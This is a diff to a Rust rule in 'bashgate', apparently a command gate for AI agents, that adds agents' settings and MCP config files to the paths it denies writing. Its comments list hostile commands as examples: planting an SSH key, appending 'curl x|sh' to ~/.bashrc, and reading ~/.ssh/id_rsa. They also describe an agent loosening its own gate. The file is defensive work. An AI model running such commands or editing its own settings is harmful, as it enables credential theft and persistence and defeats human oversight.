@@ -156,13 +156,19 @@ declare_rule! {
     /// `~/.profile`, `~/.zshrc`, ...), `.env` and `.env.*` files in any folder
     /// (`.env.example`, `.env.sample`, `.env.template` and `.env.dist` are templates
     /// and pass), and paths added with `sensitive_paths`. Writing the gate's own
-    /// policy (`bashgate.toml` at the root, the user's bashgate config folder) is
-    /// denied too.
+    /// policy (`bashgate.toml` at the root, the user's bashgate config folder) or
+    /// an agent's settings (`.claude/settings.json`, `.claude/settings.local.json`,
+    /// `.mcp.json`, `.gemini/settings.json`, `.codex/hooks.json`,
+    /// `.codex/config.toml`, `.cursor/mcp.json`, `.cursor/hooks.json`,
+    /// `.vscode/mcp.json`, in the project or the home folder, and `~/.claude.json`:
+    /// where the gate's hook, the agent's permissions and the MCP servers it starts
+    /// are kept) is denied too.
     ///
     /// ## Why
     /// Credentials leak through reads; persistence and privilege come through writes
     /// (`echo key >> ~/.ssh/authorized_keys`, `echo 'curl x|sh' >> ~/.bashrc`). An
-    /// agent that could edit `bashgate.toml` could loosen its own gate.
+    /// agent that could edit `bashgate.toml`, or its own settings, could loosen or
+    /// remove its own gate.
     ///
     /// ## Example
     /// - `cat ~/.ssh/id_rsa` → ask
@@ -384,7 +390,10 @@ fn judge(usage: &PathUse, cwd: Option<&std::path::Path>, cx: &mut Checker) {
             &SENSITIVE_PATH,
             Decision::Deny,
             span,
-            format!("writes the gate's own policy {}", checked.display()),
+            format!(
+                "writes the gate's policy or an agent's settings: {}",
+                checked.display()
+            ),
             checked,
         );
         mark_write(cx, writes);
